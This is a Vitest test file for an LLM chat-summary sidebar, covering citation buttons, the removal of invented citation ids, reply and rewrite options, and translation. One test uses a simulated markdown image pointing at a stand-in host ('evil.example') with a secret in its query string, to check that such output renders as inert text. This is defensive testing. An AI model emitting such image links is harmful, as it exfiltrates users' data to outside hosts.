import { afterEach, describe, expect, it } from 'vitest';
import { act } from 'preact/test-utils';
import type { ReplyTarget } from '../../shared/protocol';
import { allByTestId, byTestId, choose, cleanup, click, getByTestId, settle } from '../testing/dom';
import type { PendingActions } from './pending-action';
import { mountSidebar } from './sidebar-test-support';

afterEach(cleanup);

const START = { assistantName: 'Local Llama', model: 'llama3.2', locality: 'local' as const };
const REFERENCES = { m1: 'id-ana', m2: 'id-ben' };

describe('citations in a catch-up', () => {
  it('shows each valid citation as a button after its point, and drops invented ones', async () => {
    const { container, api, frames } = await mountSidebar({
      setup: (fake) => fake.on('ui->background:scroll-to-message', () => ({ found: true })),
    });
    await click(getByTestId(container, 'action-summarize'));
    await act(() => {
      api.lastTask.start({ ...START, references: REFERENCES });
      api.lastTask.delta('**Plans and dates**\n\n- Hike on Saturday at 8 [m1]\n- Ben drives [m2][m77]\n- Pay at [m9]');
      api.lastTask.end();
    });
    await frames.flush();
    const output = getByTestId(container, 'output');
    const buttons = allByTestId<HTMLButtonElement>(output, 'citation');
    expect(buttons.map((button) => button.textContent)).toEqual(['m1', 'm2']);
    expect(buttons.every((button) => button.tagName === 'BUTTON' && button.type === 'button')).toBe(true);
    expect(output.querySelector('a[href]')).toBeNull();
    expect(output.textContent).not.toContain('m77');
    expect(output.textContent).not.toContain('[m');
    expect(output.textContent).toContain('Pay at');
    expect(buttons[1]!.getAttribute('aria-label')).toBe('Show message m2 in the chat');

    await click(buttons[1]!);
    expect(api.callsOf('ui->background:scroll-to-message')).toEqual([{ tabId: 12, messageId: 'id-ben' }]);
    expect(byTestId(container, 'citation-note')).toBeNull();
  });

  it('resolves a reference-style link or image whose definition sits in another point, still as inert text', async () => {
    const { container, api, frames } = await mountSidebar();
    await click(getByTestId(container, 'action-summarize'));
    await act(() => {
      api.lastTask.start({ ...START, references: REFERENCES });
      api.lastTask.delta('- Hike on Saturday [m1]\n\n![status][r]\n\n[r]: https://evil.example/s.gif?c=secret');
      api.lastTask.end();
    });
    await frames.flush();
    await settle();
    const output = getByTestId(container, 'output');
    expect(output.textContent).toContain('[image: status — https://evil.example/s.gif?c=secret]');
    // The definition line itself is consumed, not shown a second time.
    expect(output.textContent).not.toContain('[r]:');
    expect(output.querySelector('img, a[href]')).toBeNull();
  });

  it('says so when the cited message is no longer loaded in the chat', async () => {
    const { container, api, frames } = await mountSidebar({
      setup: (fake) => fake.on('ui->background:scroll-to-message', () => ({ found: false })),
    });
    await click(getByTestId(container, 'action-summarize'));
    await act(() => {
      api.lastTask.start({ ...START, references: REFERENCES });
      api.lastTask.delta('- Hike on Saturday [m1]');
      api.lastTask.end();
    });
    await frames.flush();
    await click(getByTestId(container, 'citation'));
    await settle();
    expect(getByTestId(container, 'citation-note').textContent).toContain('no longer loaded');
  });

  it('shows a translation (no references) as before, brackets and all', async () => {
    const { container, api, frames } = await mountSidebar();
    await click(getByTestId(container, 'action-translate'));
    await act(() => {
      api.lastTask.start(START);
      api.lastTask.delta('**Ana**: see you [m1]');
      api.lastTask.end();
    });
    await frames.flush();
    expect(allByTestId(container, 'citation')).toHaveLength(0);
    expect(getByTestId(container, 'output').textContent).toContain('[m1]');
  });
});

const TARGETS: ReplyTarget[] = [
  { id: 'id-ana', sender: 'Ana Souza', text: 'Vamos no sábado?', timestamp: '2026-05-14T09:12:00' },
  { id: 'id-ben', sender: 'Ben Okafor', text: 'Can you drive?', timestamp: '2026-05-14T09:20:00' },
];

describe('reply to one message, rewrite modes, regenerate', () => {
  it('lists recent messages from others, newest first, and replies to the one picked', async () => {
    const { container, api } = await mountSidebar({
      setup: (fake) => fake.on('ui->background:list-reply-targets', () => ({ messages: TARGETS })),
    });
    await settle();
    const picker = getByTestId<HTMLSelectElement>(container, 'reply-target');
    expect(Array.from(picker.options, (option) => option.textContent)).toEqual([
      'The latest messages',
      'Ben Okafor (09:20): Can you drive?',
      'Ana Souza (09:12): Vamos no sábado?',
    ]);
    await click(getByTestId(container, 'action-reply'));
    expect(api.options.at(-1)).toEqual({});
    await act(() => api.lastTask.end(['Yes']));

    await choose(picker, 'id-ana');
    await choose(getByTestId<HTMLSelectElement>(container, 'tone-select'), 'brief');
    await click(getByTestId(container, 'action-reply'));
    expect(api.options.at(-1)).toEqual({ tone: 'brief', replyTo: 'id-ana' });
  });

  it('regenerates with the same message and tone, once the drafts are complete', async () => {
    const { container, api } = await mountSidebar({
      setup: (fake) => fake.on('ui->background:list-reply-targets', () => ({ messages: TARGETS })),
    });
    await settle();
    await choose(getByTestId<HTMLSelectElement>(container, 'reply-target'), 'id-ben');
    await click(getByTestId(container, 'action-reply'));
    await act(() => api.lastTask.delta('One\n---\nTwo'));
    expect(byTestId(container, 'regenerate')).toBeNull();
    await act(() => api.lastTask.end(['One', 'Two', 'Three']));
    const tasksBefore = api.tasks.length;
    await click(getByTestId(container, 'regenerate'));
    expect(api.tasks).toHaveLength(tasksBefore + 1);
    expect(api.lastTask.task).toBe('reply');
    expect(api.options.at(-1)).toEqual({ replyTo: 'id-ben' });
  });

  it('sends the rewrite mode picked, and the tone only where it applies', async () => {
    const { container, api } = await mountSidebar();
    await choose(getByTestId<HTMLSelectElement>(container, 'tone-select'), 'formal');
    await click(getByTestId(container, 'action-rewrite'));
    expect(api.options.at(-1)).toEqual({ tone: 'formal' });
    await act(() => api.lastTask.end(['Good evening.']));
    await choose(getByTestId<HTMLSelectElement>(container, 'rewrite-mode'), 'translate');
    await click(getByTestId(container, 'action-rewrite'));
    expect(api.options.at(-1)).toEqual({ tone: 'formal', rewriteMode: 'translate' });
    expect(api.lastTask.task).toBe('rewrite');
  });
});

describe('the catch-up shortcut', () => {
  it('starts a catch-up in the reader’s language when the sidebar takes the pending action', async () => {
    let deliver: ((action: { tabId: number; task: 'summarize'; createdAt: number }) => void) | null = null;
    const pendingActions: PendingActions = {
      watch(tabId, onAction) {
        deliver = (action) => tabId === action.tabId && onAction(action);
        return () => (deliver = null);
      },
    };
    const { api } = await mountSidebar({ pendingActions });
    await act(() => deliver!({ tabId: 12, task: 'summarize', createdAt: 1 }));
    expect(api.lastTask.task).toBe('summarize');
    expect(api.options.at(-1)).toEqual({ targetLanguage: 'American English' });
  });
});

describe('translate the selection', () => {
  it('asks for only the messages selected in the page', async () => {
    const { container, api } = await mountSidebar();
    await click(getByTestId(container, 'action-translate-selection'));
    expect(api.lastTask.task).toBe('translate');
    expect(api.options.at(-1)).toEqual({ targetLanguage: 'American English', scope: { kind: 'selection' } });
  });
});
